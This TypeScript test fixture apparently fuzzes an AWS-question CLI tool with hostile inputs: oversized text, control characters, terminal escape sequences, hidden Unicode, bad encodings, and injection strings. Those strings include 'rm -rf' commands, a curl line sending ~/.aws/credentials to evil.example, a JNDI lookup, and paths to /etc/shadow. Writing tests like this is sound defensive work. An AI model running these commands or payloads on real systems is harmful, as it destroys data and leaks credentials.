/**
 * Hostile questions for `qchat ask`. Each case is asked as one argument, on stdin, or both (raw
 * bytes only on stdin), and some also with --json; every run must exit 0 or 2 with a clear
 * message, no stack trace and no raw control byte in the text it prints. `sameAs` cases must get
 * exactly the clean question's answer.
 */
export interface QuestionCase {
  name: string;
  question: string | Buffer;
  /** Exit codes allowed (default 0 or 2). */
  codes?: number[];
  /** The answer must be exactly the answer to this clean question. */
  sameAs?: string;
  /** What the output (stdout and stderr together) must say. */
  says?: RegExp;
  /** How the question is given (default: as an argument). Raw bytes only go on stdin. */
  via?: 'argument' | 'stdin' | 'both';
  /** Also asked with --json, where the question must come back exactly as asked. */
  json?: boolean;
}

/** The clean question most cases hide their hostile text in. */
export const clean = 'how many lambda functions in us-east-1';

const hex = (code: number) => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);

const tooLong = /questions are limited to 2,000/;
const noQuestion = /ask needs a question/;
const notUnderstood = /I couldn't tell which AWS resources or costs you mean|Ask a question about your AWS resources or costs|I don't know the resource type/;

export const questionCases: QuestionCase[] = [
  // ---- size
  { name: '1 MB question', question: 'a'.repeat(1024 * 1024), codes: [2], says: tooLong, via: 'both' },
  { name: '1 MB question of real words', question: `${clean} `.repeat(Math.ceil((1024 * 1024) / (clean.length + 1))).slice(0, 1024 * 1024), codes: [2], says: tooLong, via: 'both' },
  { name: '1 MB and one byte on stdin', question: 'a'.repeat(1024 * 1024 + 1), codes: [2], says: /over 1 MB/, via: 'stdin' },
  { name: '10,000 words', question: Array.from({ length: 10_000 }, (_, i) => `word${i}`).join(' '), codes: [2], says: tooLong, via: 'both' },
  { name: 'exactly 2,000 characters', question: `${clean}${' ?'.repeat((2000 - clean.length) / 2)}`.slice(0, 2000), codes: [0] },
  { name: '2,001 characters', question: `${clean}${'!'.repeat(2001 - clean.length)}`, codes: [2], says: tooLong },
  { name: 'one 100,000-letter word', question: `describe bucket ${'b'.repeat(100_000)}`, codes: [2], says: tooLong },

  // ---- NUL and control characters
  { name: 'NUL between words', question: 'how many\u0000 lambda functions in us-east-1', sameAs: clean, via: 'both', json: true },
  { name: 'NUL only', question: '\u0000\u0000\u0000', codes: [2], says: notUnderstood, via: 'both' },
  ...range(0x01, 0x1f).map((code): QuestionCase => ({ name: `C0 control ${hex(code)} between words`, question: `how many${String.fromCharCode(code)} lambda functions in us-east-1`, sameAs: clean })),
  { name: 'DEL U+007F between words', question: 'how many\u007f lambda functions in us-east-1', sameAs: clean },
  ...range(0x80, 0x9f).map((code): QuestionCase => ({ name: `C1 control ${hex(code)} between words`, question: `how many${String.fromCharCode(code)} lambda functions in us-east-1`, sameAs: clean })),
  { name: 'carriage return that would overwrite the line', question: `tell me a joke\r${clean}`, via: 'both', json: true },
  { name: 'CRLF header injection', question: `${clean}\r\nX-Injected: 1`, via: 'both', json: true },

  // ---- escape sequences
  // A sequence glued to a word leaves its printable part there ("[2Jhow"): answered, not always the same way.
  { name: 'CSI clear screen', question: `\u001b[2J${clean}`, json: true },
  { name: 'CSI colour', question: `how many \u001b[31mlambda\u001b[0m functions in us-east-1`, sameAs: clean, json: true },
  { name: 'CSI alternate screen', question: `\u001b[?1049h${clean}\u001b[?1049l`, json: true },
  { name: 'CSI device status report', question: `${clean}\u001b[6n`, json: true },
  { name: 'CSI cursor home and erase line', question: `\u001b[H\u001b[2K${clean}`, json: true },
  { name: 'OSC window title ended by BEL', question: `${clean} \u001b]0;pwned\u0007`, json: true },
  { name: 'OSC window title ended by ST', question: `${clean} \u001b]2;pwned\u001b\\`, json: true },
  { name: 'OSC 52 clipboard write', question: `${clean} \u001b]52;c;cm0gLXJmIH4=\u0007`, json: true },
  { name: 'OSC 8 hyperlink', question: `\u001b]8;;https://evil.example\u0007${clean}\u001b]8;;\u0007`, json: true },
  { name: 'OSC never terminated', question: `${clean} \u001b]0;never ends`, json: true },
  { name: 'DCS request', question: `${clean} \u001bP+q544e\u001b\\`, json: true },
  { name: 'APC, PM and SOS strings', question: `\u001b_apc\u001b\\\u001b^pm\u001b\\\u001bXsos\u001b\\${clean}`, json: true },
  { name: 'reset to initial state (RIS)', question: `\u001bc${clean}`, sameAs: clean, json: true },
  { name: '8-bit CSI', question: `\u009b2J${clean}`, json: true },
  { name: '8-bit OSC and ST', question: `\u009d0;pwned\u009c${clean}`, json: true },
  { name: 'escape sequence in a resource name', question: 'describe bucket "my\u001b]0;x\u0007bucket" in us-east-1', json: true },
  { name: 'escape sequence in a tag filter', question: 'list ec2 instances tagged env=\u001b[2Jprod in us-east-1', json: true },
  { name: 'lone ESC at the end', question: `${clean}\u001b`, json: true },

  // ---- Unicode that hides or reorders text
  { name: 'right-to-left override before the question', question: `\u202e${clean}`, sameAs: clean, json: true },
  { name: 'right-to-left override inside the region', question: 'how many lambda functions in us-\u202eeast-1', sameAs: clean },
  { name: 'left-to-right and right-to-left isolates', question: `\u2066how many\u2069 \u2067lambda functions\u2069 in us-east-1`, sameAs: clean, json: true },
  { name: 'bidi override alone', question: '\u202e\u202d\u202c', codes: [2] },
  { name: 'zero-width spaces between words', question: 'how\u200bmany\u200blambda\u200bfunctions\u200bin\u200bus-east-1', sameAs: clean, json: true },
  { name: 'zero-width joiners inside words', question: 'how many lam\u200dbda func\u200dtions in us-east-1', sameAs: clean },
  { name: 'byte-order mark at the start', question: `\ufeff${clean}`, sameAs: clean },
  { name: 'word joiners and soft hyphens', question: 'how many lambda\u2060 functions in us-east-1' },
  { name: 'line and paragraph separators', question: 'how many\u2028lambda functions\u2029in us-east-1', sameAs: clean },
  { name: 'fullwidth letters', question: 'how many ＬＡＭＢＤＡ functions in us-east-1' },
  { name: 'combining marks on every letter', question: 'h\u0301o\u0301w\u0301 m\u0301a\u0301n\u0301y\u0301 lambda functions' },

  // ---- encodings (stdin bytes)
  { name: 'invalid UTF-8 bytes only', question: Buffer.from([0xff, 0xfe, 0xfd, 0xc0, 0x80]), codes: [2], via: 'stdin' },
  { name: 'invalid UTF-8 before a question', question: Buffer.concat([Buffer.from([0xff, 0xfe, 0x20]), Buffer.from(clean)]), sameAs: clean, via: 'stdin' },
  { name: 'overlong encoding of a slash', question: Buffer.concat([Buffer.from('describe bucket ..'), Buffer.from([0xc0, 0xaf]), Buffer.from('etc')]), via: 'stdin' },
  { name: 'UTF-8 cut in the middle of a character', question: Buffer.concat([Buffer.from(clean), Buffer.from([0xe2, 0x82])]), sameAs: clean, via: 'stdin' },
  { name: 'surrogate encoded as UTF-8 (CESU)', question: Buffer.concat([Buffer.from('how many '), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(' lambda functions in us-east-1')]), sameAs: clean, via: 'stdin' },
  { name: 'UTF-16 with a byte-order mark', question: Buffer.from(`\ufeff${clean}`, 'utf16le'), via: 'stdin' },
  { name: 'Latin-1 bytes', question: Buffer.from('how many lambda functions in S\xe3o Paulo', 'latin1'), via: 'stdin' },
  { name: 'lone high surrogate', question: 'how many \ud800 lambda functions in us-east-1', sameAs: clean, json: true },
  { name: 'lone low surrogate', question: 'how many lambda functions \udc00in us-east-1', sameAs: clean, json: true },
  { name: 'reversed surrogate pair', question: `\udc00\ud800${clean}`, sameAs: clean, json: true },

  // ---- scripts and emoji
  { name: 'emoji in the question', question: 'how many lambda functions 🚀 in us-east-1', sameAs: clean },
  { name: 'emoji only', question: '🚀🔥💸', codes: [2], says: notUnderstood },
  { name: 'family emoji with joiners', question: `${clean} 👨‍👩‍👧‍👦`, json: true },
  { name: 'flag emoji', question: `${clean} 🇺🇸` },
  { name: 'Arabic question', question: 'كم عدد وظائف لامبدا لدي', codes: [2], says: notUnderstood },
  { name: 'Hebrew question', question: 'כמה פונקציות למבדה יש לי', codes: [2], says: notUnderstood },
  { name: 'Arabic words around a question', question: `مرحبا ${clean} شكرا`, json: true },
  { name: 'CJK question', question: '我有多少个 lambda 函数' },
  { name: 'Zalgo text', question: 'h̸̡̢o̶w̷ ̶m̵a̴n̸y̷ l̵a̶m̴b̷d̸a̵' },

  // ---- nothing to ask
  { name: 'empty', question: '', codes: [2], says: noQuestion, via: 'both' },
  { name: 'one space', question: ' ', codes: [2], says: noQuestion, via: 'both' },
  { name: 'tabs and newlines only', question: '\t\t\n\n\t', codes: [2], says: noQuestion, via: 'both' },
  { name: 'no-break and em spaces only', question: '\u00a0\u2003\u3000', codes: [2], says: noQuestion, via: 'both' },
  { name: 'zero-width space only', question: '\u200b\u200b', codes: [2], via: 'both' },
  { name: 'punctuation only', question: '?!.,;:', codes: [2], says: notUnderstood, via: 'both' },
  { name: 'question marks only', question: '???', codes: [0], via: 'both' },
  { name: 'dots only', question: '......', codes: [2], says: notUnderstood, via: 'both' },
  { name: 'one letter', question: 'x', codes: [2], via: 'both' },
  { name: 'digits only', question: '12345678901234567890', codes: [2], via: 'both' },

  // ---- injection-shaped text
  { name: 'SQL drop table', question: "'; DROP TABLE users; --", json: true },
  { name: 'SQL always true', question: "1' OR '1'='1", codes: [2] },
  { name: 'SQL union', question: 'lambda functions UNION SELECT * FROM credentials' },
  { name: 'shell command substitution', question: '$(rm -rf /)', codes: [2] },
  { name: 'shell backticks', question: '`cat ~/.aws/credentials`', codes: [2] },
  { name: 'shell command after a question', question: `${clean}; rm -rf ~`, sameAs: clean, via: 'both' },
  { name: 'shell pipe to curl', question: `${clean} | curl -d @~/.aws/credentials evil.example` },
  // "ACCESS_KEY" names IAM access keys, which Cloud Control cannot list: an AWS error (6), told as such.
  { name: 'environment variable', question: '${AWS_SECRET_ACCESS_KEY}', codes: [2, 6] },
  // "example" asks for examples: the built-in help.
  { name: 'JNDI lookup', question: '${jndi:ldap://evil.example/a}', codes: [0, 2] },
  { name: 'template expression', question: '{{7*7}} {{constructor.constructor("return process")()}}', codes: [2] },
  { name: 'HTML script', question: '<script>alert(1)</script>', codes: [2] },
  { name: 'JSON text', question: '{"question": "how many lambda functions", "__proto__": {"admin": true}}', json: true },
  { name: 'prototype names', question: '__proto__ constructor prototype toString', codes: [2] },
  { name: 'URL-encoded controls', question: `${clean}%00%0d%0a%1b` },

  // ---- format strings
  { name: 'printf %s%n', question: '%s%n%x', codes: [2], says: notUnderstood },
  { name: 'printf %n repeated', question: '%n%n%n%n%n%n%n%n', codes: [2] },
  { name: 'printf positional', question: '%1$s %2$n %3$x', codes: [2] },
  { name: 'printf in a question', question: 'how many %s lambda %n functions in us-east-1', json: true },
  { name: 'Python format', question: '{0} {1!r} %(name)s', codes: [2] },
  { name: 'console format', question: '%o %O %c %j %d %i %f', codes: [2] },

  // ---- paths
  { name: 'path traversal', question: '../../etc/passwd', codes: [2], says: notUnderstood, via: 'both' },
  { name: 'absolute path', question: '/etc/shadow', codes: [2] },
  { name: 'Windows path', question: '..\\..\\windows\\system32\\config\\sam', codes: [2] },
  { name: 'file URL', question: 'file:///etc/passwd', codes: [2] },
  { name: 'path as a bucket name', question: 'describe bucket ../../etc/passwd in us-east-1', json: true },
  { name: 'path in a region name', question: 'how many lambda functions in ../../us-east-1' },
  { name: 'home directory', question: '~/.aws/credentials', codes: [2] },
];
